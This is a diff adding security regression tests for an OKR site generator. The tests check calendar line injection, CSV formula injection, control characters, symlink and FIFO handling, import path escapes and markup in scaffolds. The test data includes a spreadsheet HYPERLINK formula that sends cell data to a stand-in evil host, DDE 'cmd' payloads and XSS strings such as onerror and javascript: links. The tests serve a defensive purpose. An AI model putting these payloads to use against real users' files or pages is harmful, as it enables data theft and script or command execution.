@@ -5,16 +5,32 @@
  * files (symlinks, FIFOs) are made here in a temp dir, never committed.
  */
 import { execFileSync } from 'node:child_process';
-import fs, { chmodSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
+import fs, { chmodSync, mkdirSync, mkdtempSync, readdirSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { syncBuiltinESMExports } from 'node:module';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
+import { parse } from 'csv-parse/sync';
+import { XMLValidator } from 'fast-xml-parser';
+import ICAL from 'ical.js';
+import { markdownToHtml } from 'satteri';
 import { afterAll, describe, expect, it } from 'vitest';
 import { check } from '../../src/cli/check.ts';
+import { planImport, readRows, writeImport } from '../../src/cli/import.ts';
+import { planNew } from '../../src/cli/new.ts';
+import { calendarEvents, calendarIcs } from '../../src/export/calendar-ics.ts';
+import { cycleCsv } from '../../src/export/cycle-csv.ts';
+import { computeFigures } from '../../src/figures/index.ts';
+import { english } from '../../src/i18n/index.ts';
 import { basePath } from '../../src/lib/base.ts';
+import { formatter } from '../../src/lib/format.ts';
+import { checkContinuity } from '../../src/model/continuity.ts';
 import { EnvironmentError, formatFinding } from '../../src/model/index.ts';
-import { markdownToText } from '../../src/search/markdown-text.ts';
-import { cleanContentRoots, contentRoot, errorLines } from '../helpers.ts';
+import type { LoadedContent } from '../../src/model/load.ts';
+import { bodyText, markdownToText } from '../../src/search/markdown-text.ts';
+import { feedXml } from '../../src/site/feed.ts';
+import { peopleOf, personDetails, personSlug } from '../../src/site/people/people.ts';
+import { cleanContentRoots, contentRoot, errorLines, load } from '../helpers.ts';
+import * as builder from '../model-builder.ts';
 
 afterAll(cleanContentRoots);
 
@@ -210,7 +226,9 @@ describe('figures stay finite', () => {
 
 describe('comments and the base path', () => {
   it('keeps HTML comments out of the search text, closed or not', () => {
-    expect(markdownToText('We won <!-- internal remark: the deal was luck --> the deal.\n<!--\nreorg next month\n-->\nDone. <!-- never closed\nsecret')).toBe('We won the deal. Done.');
+    expect(markdownToText('We won <!-- internal remark: the deal was luck --> the deal.\n<!--\nreorg next month\n-->\nDone.\n\n<!-- never closed\nsecret')).toBe('We won the deal. Done.');
+    // Within a paragraph an unclosed `<!--` is no comment: the page shows it (as `&lt;!–`), so search has it too.
+    expect(markdownToText('Done. <!-- never closed\nshown')).toBe('Done. <!– never closed shown');
   });
 
   it('accepts a base path of URL-safe folders and refuses anything else, plainly', () => {
@@ -257,3 +275,259 @@ describe('check implies build: bodies', () => {
     `);
   });
 });
+
+/*
+ * Issue 26: the surfaces added since issue 14 (calendars, CSV, feed, interface
+ * strings, imports, scaffolds, people). Each case failed before its fix.
+ */
+const q3 = builder.cycle('2026-q3', '2026-07-01', '2026-09-30');
+const calendarSite = { origin: 'https://okrs.example.com', base: '/', domain: 'okrs.example.com' };
+/** Characters no published text file may hold: C0 controls but tab, LF and CR, and DEL. */
+const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/;
+
+describe('issue 26: calendars hold no forged line', () => {
+  it('escapes the calendar name and every event text, strips control characters, and ends each line with CRLF', () => {
+    const hostile = 'Sales\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:checkin-sales-2026-q3-2026-07-01@okrs.example.com\r\nSUMMARY:Free money;,\\\u001b[0m\u0000\u000b';
+    const m = builder.model({ asOf: '2026-08-15', cycles: [q3], teams: [builder.team('sales', { name: hostile })], objectives: [builder.objective('2026-q3/sales/win', 'sales', '2026-q3', [builder.kr('a')])] });
+    const events = calendarEvents(m, computeFigures(m), calendarSite, 'sales');
+    const text = calendarIcs(`${hostile}: check-ins`, events, '2026-08-15');
+    expect(text.endsWith('\r\n')).toBe(true);
+    const lines = text.split('\r\n').slice(0, -1);
+    // No bare CR or LF (every line ends with CRLF), no control character, and no line a calendar would read as a new event.
+    expect(lines.filter((line) => /[\r\n]/.test(line) || CONTROL.test(line))).toEqual([]);
+    expect(lines.filter((line) => line.startsWith('BEGIN:VEVENT'))).toHaveLength(events.length);
+    expect(lines.filter((line) => line.startsWith('UID:'))).toHaveLength(events.length);
+    const calendar = new ICAL.Component(ICAL.parse(text));
+    const parsed = calendar.getAllSubcomponents('vevent').map((v) => new ICAL.Event(v));
+    expect(parsed.map((e) => e.uid)).toEqual(events.map((e) => e.uid));
+    const shown = 'Sales\nEND:VEVENT\nBEGIN:VEVENT\nUID:checkin-sales-2026-q3-2026-07-01@okrs.example.com\nSUMMARY:Free money;,\\[0m';
+    // One property each, escaped as RFC 5545 TEXT (ical.js leaves the text of these properties escaped).
+    const escaped = 'Sales\\nEND:VEVENT\\nBEGIN:VEVENT\\nUID:checkin-sales-2026-q3-2026-07-01@okrs.example.com\\nSUMMARY:Free money\\;\\,\\\\[0m: check-ins';
+    expect(calendar.getFirstPropertyValue('x-wr-calname')).toBe(escaped);
+    expect(calendar.getFirstPropertyValue('name')).toBe(escaped);
+    expect(parsed[0]!.summary).toBe(`Check-in due: ${shown} · 2026-q3`);
+  });
+});
+
+describe('issue 26: the cycle CSV holds no formula', () => {
+  const formulas = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', "'=already quoted", "''@quoted twice"];
+  const keyResults = formulas.map((title, i) => `  - id: kr-${i}\n    title: ${JSON.stringify(title)}\n    baseline: -5\n    target: ${i}\n    unit: ${JSON.stringify(formulas[(i + 1) % formulas.length])}\n`).join('');
+  const root = contentRoot({ 'okrs/2026-q3/sales/formulas.md': `---\ntitle: ${JSON.stringify(formulas[0])}\nteam: sales\ncycle: 2026-q3\nkey_results:\n${keyResults}---\n` });
+
+  it('starts no text cell with = + - @ tab or CR (numbers stay numbers), and import gives back the titles and units as written', () => {
+    const { model } = load(root);
+    const csv = cycleCsv(computeFigures(model).cycle('2026-q3')!);
+    const cells = (parse(csv, { relax_column_count: true }) as string[][]).flat();
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i.test(cell))).toEqual([]);
+    expect(cells).toContain('-5');
+    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?d="&A1,"Click")');
+    expect(cells).toContain("''=already quoted");
+    // export -> import round-trips: the titles and units come back as written.
+    const empty = contentRoot({}, '');
+    const files = planImport(readRows(new TextEncoder().encode(csv), 'q3.csv'), 'q3.csv', { cycle: '2026-q3', createMissing: true, start: '2026-07-01', end: '2026-09-30' }, load(empty).model);
+    writeImport(load(empty).model.options, files);
+    const imported = load(empty).model.objectives.filter((o) => o.id.endsWith('/formulas')).flatMap((o) => o.keyResults.map((k) => [o.title, k.title, k.unit]));
+    const original = model.objectives.filter((o) => o.id.endsWith('/formulas')).flatMap((o) => o.keyResults.map((k) => [o.title, k.title, k.unit]));
+    expect(imported).toEqual(original);
+    expect(imported.map(([, title]) => title)).toEqual(formulas);
+  });
+});
+
+describe('issue 26: control characters', () => {
+  it('are refused by check in any text of the front matter, site.yaml and i18n/, naming field and line', () => {
+    const root = contentRoot({
+      'teams/sales.md': '---\nname: "Alpha\\e[0m"\nparent: company\nmembers: ["Daniel\\x00Tan"]\n---\n',
+      'site.yaml': 'title: "Acme\\vOKRs"\nlocale: en\n',
+      'i18n/en.yaml': 'nav.home: "Home\\x07"\n',
+    });
+    expect(errorLines(root).filter((line) => line.includes('invalid-character'))).toMatchInlineSnapshot(`
+      [
+        "i18n/en.yaml:1: invalid-character: nav.home: the text holds the control character U+0007 (BEL), which no page, feed or calendar can show; remove it (retype the text if it was pasted from a terminal or a document)",
+        "site.yaml:1: invalid-character: title: the text holds the control character U+000B (VT), which no page, feed or calendar can show; remove it (retype the text if it was pasted from a terminal or a document)",
+        "teams/sales.md:2: invalid-character: name: the text holds the control character U+001B (ESC), which no page, feed or calendar can show; remove it (retype the text if it was pasted from a terminal or a document)",
+        "teams/sales.md:4: invalid-character: members[0]: the text holds the control character U+0000 (NUL), which no page, feed or calendar can show; remove it (retype the text if it was pasted from a terminal or a document)",
+      ]
+    `);
+  });
+
+  it('never reach the feed: it stays well-formed XML', async () => {
+    const m = builder.model({
+      asOf: '2026-08-15',
+      cycles: [q3],
+      teams: [builder.team('sales', { name: 'Alpha\u001b[0m\u0000' })],
+      objectives: [builder.objective('2026-q3/sales/win', 'sales', '2026-q3', [builder.kr('a')])],
+      checkIns: [builder.checkIn('sales', '2026-q3', '2026-08-10', [], { blockers: ['Stuck\u000b\u0008'], leadersPresent: ['Farid\u0007'] })],
+      settings: { title: 'Acme\u001f' },
+    });
+    const xml = await feedXml(m, { t: english, fmt: formatter('en'), site: new URL('https://okrs.example.com'), base: '/' });
+    expect(CONTROL.test(xml)).toBe(false);
+    expect(XMLValidator.validate(xml)).toBe(true);
+    expect(xml).toContain('Alpha[0m');
+  });
+});
+
+describe('issue 26: i18n/ is read under the walk policy', () => {
+  it('refuses a FIFO, a link to /dev/zero or outside the root, a folder named like a file, a file named i18n, and a file above the size limit', () => {
+    const outside = path.join(tmpdir(), `okrbook-outside-i18n-${process.pid}.yaml`);
+    writeFileSync(outside, 'nav.home: Outside words\n');
+    const root = contentRoot({ 'i18n/ms.yaml': `nav.home: "${'x'.repeat(2 * 1024 * 1024)}"\n` });
+    execFileSync('mkfifo', [path.join(root, 'i18n/en.yaml')]);
+    symlinkSync('/dev/zero', path.join(root, 'i18n/zero.yaml'));
+    mkdirSync(path.join(root, 'i18n/en.yml'));
+    const lines = errorLines(root, { maxFileBytes: 1024 * 1024 });
+    expect(lines).toMatchInlineSnapshot(`
+      [
+        "i18n/en.yaml:1: special-file: this is a named pipe (FIFO), not a regular file; okrbook reads regular files only, remove it",
+        "i18n/en.yml:1: not-a-file: this is a folder; interface strings are files named after their language (e.g. \`i18n/ms.yaml\`): move it aside, or start its name with \`_\`",
+        "i18n/ms.yaml:1: file-too-large: the file is larger than the limit of 1 MB; interface strings are a few lines each, so it is likely not the file you meant (or raise OKRBOOK_MAX_FILE_MB)",
+        "i18n/zero.yaml:1: symlink-outside: this symlink points outside the content root, which okrbook never reads; copy the file into the content root instead",
+      ]
+    `);
+    const file = contentRoot({ i18n: 'nav.home: Home\n' });
+    expect(errorLines(file)).toMatchInlineSnapshot(`
+      [
+        "i18n:1: not-a-folder: this is a file, but \`i18n\` is the folder of interface strings, one file per language (e.g. \`i18n/ms.yaml\`); move its strings into such a file",
+      ]
+    `);
+    const linked = contentRoot();
+    mkdirSync(path.join(linked, 'i18n'));
+    symlinkSync(outside, path.join(linked, 'i18n/en.yaml'));
+    const { model, findings } = load(linked);
+    expect(findings.map((f) => `${f.file}: ${f.code}`)).toEqual(['i18n/en.yaml: symlink-outside']);
+    expect(JSON.stringify(model.interfaceStrings ?? {})).not.toContain('Outside words');
+    rmSync(outside);
+  });
+});
+
+describe('issue 26: long person names', () => {
+  it('give slugs of at most 64 characters, cut with a short hash so two long names never share one', () => {
+    const long = `Siti ${'Nurhaliza '.repeat(32)}binti Tarudin`;
+    const slug = personSlug(long);
+    expect(slug.length).toBeLessThanOrEqual(64);
+    expect(slug).toMatch(/^siti-nurhaliza-nurhaliza-[a-z0-9-]+-[0-9a-f]{8}$/);
+    expect(personSlug(`${long} II`)).not.toBe(slug);
+    expect(personSlug('Siti Nurhaliza Ş.')).toBe('siti-nurhaliza-s');
+  });
+});
+
+describe('issue 26: people are matched as readers see them', () => {
+  it('takes names that differ only in case or Unicode normalisation for one person, keeping the written form', () => {
+    const composed = 'Zoë Ng';
+    const decomposed = 'Zoe\u0308 Ng';
+    const m = builder.model({
+      asOf: '2026-08-15',
+      cycles: [q3],
+      teams: [builder.team('sales', { lead: composed, members: ['zoë ng', 'Daniel Tan'] })],
+      objectives: [builder.objective('2026-q3/sales/win', 'sales', '2026-q3', [builder.kr('a', { owner: 'ZOË NG' })], { owner: decomposed })],
+    });
+    const { people, byName } = peopleOf(m);
+    expect(people.map((p) => [p.name, p.slug])).toEqual([['Daniel Tan', 'daniel-tan'], ['Zoë Ng', 'zoe-ng']]);
+    expect(byName(decomposed)?.slug).toBe('zoe-ng');
+    expect(byName('zoë ng')?.name).toBe('Zoë Ng');
+    const details = personDetails(m, computeFigures(m), byName(decomposed)!, [q3]);
+    expect(details.objectives.map((o) => o.objective.id)).toEqual(['2026-q3/sales/win']);
+    expect(details.keyResults.map((k) => k.result.keyResult.id)).toEqual(['a']);
+    expect(details.teams.map((t) => t.role)).toEqual(['lead']);
+  });
+});
+
+describe('issue 26: import writes inside the content root only, and reports what it cannot write', () => {
+  const importCsv = (root: string, csv: string) => {
+    const { model } = load(root);
+    return writeImport(model.options, planImport(readRows(new TextEncoder().encode(csv), 'okrs.csv'), 'okrs.csv', { cycle: '2026-q3', createMissing: false }, model));
+  };
+
+  it('refuses a target folder whose real path is outside the root, and writes nothing', () => {
+    const root = contentRoot();
+    const outside = mkdtempSync(path.join(tmpdir(), 'okrbook-outside-'));
+    symlinkSync(outside, path.join(root, 'okrs/2026-q3/beta'));
+    const csv = 'team,objective,objective_title,kr,kr_title,baseline,target\nsales,2026-q3/beta/grow,Grow,mrr-9,MRR,1,2\n';
+    expect(() => importCsv(root, csv)).toThrow(`okrs.csv row 2, column objective: nothing was imported: \`okrs/2026-q3/beta\` is a link to ${realpathSync(outside)}, outside the content root, and import writes inside the content root only; replace the link with a folder, or import into another cycle`);
+    // A link where the file would go, pointing nowhere: the file system refuses, and the row is named.
+    symlinkSync(path.join(outside, 'grow.md'), path.join(root, 'okrs/2026-q3/sales/grow.md'));
+    expect(() => importCsv(root, csv.replace('2026-q3/beta/grow', '2026-q3/sales/grow'))).toThrow(/^okrs\.csv row 2, column objective: cannot write `okrs\/2026-q3\/sales\/grow\.md` \(EEXIST: .*\); nothing was imported$/);
+    expect(readdirSync(outside)).toEqual([]);
+  });
+
+  it('names the row and column of an id too long for a file system (a 300-character segment, 2,100 segments), and leaves the root as it was', () => {
+    const root = contentRoot();
+    const before = readdirSync(root, { recursive: true }).sort();
+    const csv = `team,objective,objective_title,kr,kr_title,baseline,target\nsales,2026-q3/sales/${'a'.repeat(300)},Grow,mrr-9,MRR,1,2\nsales,2026-q3/${'b/'.repeat(2100)}c,Grow,mrr-8,MRR,1,2\n`;
+    expect(() => importCsv(root, csv)).toThrowErrorMatchingInlineSnapshot(`
+      [UsageError: nothing was imported; 2 problems:
+      okrs.csv row 2, column objective: the objective id "2026-q3/sales/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa..." has a part of 300 characters, above the 200 a file or folder name may have; shorten it
+      okrs.csv row 3, column objective: the objective id "2026-q3/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b/b..." has 4209 characters, above the 1000 a path of the content root may have; shorten it]
+    `);
+    // The command itself (exit 1, no stack trace): tests/cli/hostile-cli.test.ts.
+    expect(readdirSync(root, { recursive: true }).sort()).toEqual(before);
+  });
+});
+
+describe('issue 26: scaffolds copy text, never markup', () => {
+  const markup = '<img src=x onerror=alert(1)> [click](javascript:alert(1)) **bold** {1+1} &lt;';
+  /** The HTML Astro's Markdown processor makes of a body (the fast path renders `.md` bodies this way). */
+  const rendered = (text: string) => markdownToHtml(text.replace(/^---\n[\s\S]*?\n---\n/, ''), { features: { gfm: true, smartPunctuation: false } }).html;
+  const root = contentRoot({
+    'cycles/2026-q3.md': `---\nname: ${JSON.stringify(`Q3 ${markup}`)}\nstart: 2026-07-01\nend: 2026-09-30\n---\n`,
+    'cycles/2026-q4.md': '---\nname: Q4 2026\nstart: 2026-10-01\nend: 2026-12-31\n---\n',
+    'okrs/2026-q3/sales/win-mid-market.md': `---\ntitle: ${JSON.stringify(`# Win ${markup}`)}\nteam: sales\ncycle: 2026-q3\nowner: ${JSON.stringify(`<b>Aisha</b> ${markup}`)}\nkey_results:\n  - id: new-mrr\n    title: MRR\n    baseline: 0\n    target: 10\n---\n`,
+    'checkins/2026-q3/sales/2026-07-13.md': `---\nteam: sales\ndate: 2026-07-13\nactions:\n  - title: ${JSON.stringify(`- 1. > # ${markup}`)}\n    owner: ${JSON.stringify(`[x](javascript:alert(2))`)}\n    status: todo\n---\n`,
+  });
+  const { model } = load(root, { asOf: '2026-08-01' });
+
+  it.each([
+    ['new handover', ['handover', '--team', 'sales', '--to', 'Nurul Huda']],
+    ['new objective --carry', ['objective', '--carry', '2026-q3/sales/win-mid-market']],
+    ['new team', ['team', 'evil', '--name', `Evil ${markup}`]],
+  ])('%s: every copied text reads as written, and the page holds no element or link from it', (_name, args) => {
+    const html = rendered(planNew(args, model).text);
+    expect(html).not.toMatch(/<(img|b|a|h1|ol|blockquote)\b/);
+    expect(html).not.toContain('javascript:alert(1)"');
+    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt; [click](javascript:alert(1)) **bold** {1+1} &amp;lt;');
+  });
+});
+
+describe('issue 26: search indexes what the page shows', () => {
+  it('leaves out MDX comments, nested expressions, ESM, `[//]: #` comments, reference definitions and HTML comments', () => {
+    const mdx = "import X from './x.js'\n\nShown one. {/* secret1 {ref} */} Shown two {a ? {b: 'secret2'} : 1}.\n\n[//]: # (secret3)\n\n[unused]: https://secret4.example \"secret5\"\n\n<X kind=\"secret6\">Shown three</X>\n";
+    expect(bodyText({ file: 'okrs/a.mdx', body: mdx })).toBe('Shown one. Shown two . Shown three');
+    const md = 'Shown <!-- secret1 --> **one**.\n\n[//]: # (secret2)\n\n[ref]: https://secret3.example "secret4"\n\n<div>Two <!-- secret5 --> <span title="secret6">three</span></div>\n\n<script>secret7</script>\n\nFour\n\n<!-- never closed\nsecret8';
+    expect(bodyText({ file: 'okrs/a.md', body: md })).toBe('Shown one. Two three Four');
+  });
+});
+
+describe('issue 26: carry loops are found in linear time', () => {
+  it('reads each `carried_from` a bounded number of times on a 3,000-long chain and a 3,000-long loop', () => {
+    for (const loop of [false, true]) {
+      const n = 3000;
+      let reads = 0;
+      const content = loadedObjectives(n, (i) => (i === 0 ? (loop ? `2026-q3/sales/o${n - 1}` : undefined) : `2026-q3/sales/o${i - 1}`), () => reads++);
+      const errors: string[] = [];
+      checkContinuity(content, (entry, _line, code) => errors.push(`${entry.file}: ${code}`), () => '');
+      // Before: every start walked its whole chain with `includes`, n * n / 2 reads and n^3 / 6 comparisons.
+      expect(reads).toBeLessThanOrEqual(4 * n);
+      expect(errors.filter((e) => e.endsWith('carry-loop'))).toEqual(loop ? ['okrs/2026-q3/sales/o0.md: carry-loop'] : []);
+    }
+  });
+});
+
+/** A loaded content root of `n` objectives whose `carried_from` is counted each time it is read. */
+function loadedObjectives(n: number, carriedFrom: (i: number) => string | undefined, onRead: () => void): LoadedContent {
+  const objectives = Array.from({ length: n }, (_, i) => {
+    const data = { title: `O${i}`, team: 'sales', cycle: '2026-q3', key_results: [] };
+    Object.defineProperty(data, 'carried_from', { enumerable: true, get: () => (onRead(), carriedFrom(i)) });
+    return { id: `2026-q3/sales/o${i}`, file: `okrs/2026-q3/sales/o${i}.md`, data, lines: {}, lineOf: () => 1, itemLines: () => [], body: '' };
+  });
+  return {
+    settings: {} as LoadedContent['settings'],
+    teams: [],
+    cycles: [],
+    objectives: objectives as unknown as LoadedContent['objectives'],
+    checkIns: [],
+    guide: [],
+    handovers: [],
+    known: { teams: new Set(['sales']), cycles: new Set(), objectives: new Set(objectives.map((o) => o.id)), keyResults: new Set(), brokenCycles: false },
+    findings: [],
+    files: n,
+  };
+}
